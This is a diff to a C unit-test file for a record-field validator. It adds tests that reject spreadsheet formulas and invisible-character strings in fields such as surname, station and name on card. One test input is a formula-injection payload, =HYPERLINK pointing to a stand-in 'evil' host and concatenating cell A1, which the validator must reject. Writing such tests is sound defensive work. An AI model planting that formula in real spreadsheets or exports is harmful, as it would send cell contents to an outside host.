@@ -189,7 +189,29 @@ static void test_formulas(void **state)
     for (size_t f = 0; f < sizeof(class_a) / sizeof(class_a[0]); f++)
         for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
             bad(NULL, class_a[f], formulas[i], FORMULA);
-    good(NULL, VF_FIELD_SURNAME, "-", "-"); /* class B, "no surname" in some systems */
+    for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
+        bad(NULL, VF_FIELD_SURNAME, formulas[i], FORMULA);
+    bad(NULL, VF_FIELD_STATION, "=HYPERLINK(\"http://evil/\"&A1)", FORMULA);
+    good(NULL, VF_FIELD_SURNAME, "-", "-");             /* "no surname" in some systems */
+    good(NULL, VF_FIELD_NOTIFY_TO, "+44 20", "+44 20"); /* class C: never in a grant */
+}
+
+/* A card with nothing on it. */
+static void test_nothing_to_see(void **state)
+{
+    static const char *const blank[] = {"\xe3\x85\xa4",     "\xe2\xa0\x80",
+                                        "\xef\xb8\x8f",     "\xe2\x80\x8d\xe2\x80\x8c",
+                                        "\xcc\x81\xcc\x81", "\xe1\x85\x9f\xe1\x85\xa0"};
+
+    (void)state;
+    for (size_t i = 0; i < sizeof(blank) / sizeof(blank[0]); i++) {
+        bad(NULL, VF_FIELD_NAME_ON_CARD, blank[i], "has no character that can be seen");
+        bad(NULL, VF_FIELD_UNIT_CODE, blank[i], "has no character that can be seen");
+        assert_true(vf_text_blank(blank[i], strlen(blank[i])));
+    }
+    assert_true(vf_text_blank("\xc2\xa0 ", 3));
+    assert_false(vf_text_blank("a\xcc\x81", 3));
+    assert_false(vf_text_blank(".", 1));
 }
 
 static void test_spreadsheet_damage(void **state)
@@ -399,11 +421,17 @@ static void test_row(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_text),      cmocka_unit_test(test_length),
-        cmocka_unit_test(test_formulas),  cmocka_unit_test(test_spreadsheet_damage),
-        cmocka_unit_test(test_warrant),   cmocka_unit_test(test_rank),
-        cmocka_unit_test(test_forms),     cmocka_unit_test(test_dates),
-        cmocka_unit_test(test_mutations), cmocka_unit_test(test_row),
+        cmocka_unit_test(test_text),
+        cmocka_unit_test(test_length),
+        cmocka_unit_test(test_formulas),
+        cmocka_unit_test(test_nothing_to_see),
+        cmocka_unit_test(test_spreadsheet_damage),
+        cmocka_unit_test(test_warrant),
+        cmocka_unit_test(test_rank),
+        cmocka_unit_test(test_forms),
+        cmocka_unit_test(test_dates),
+        cmocka_unit_test(test_mutations),
+        cmocka_unit_test(test_row),
     };
 
     return cmocka_run_group_tests(tests, NULL, NULL);
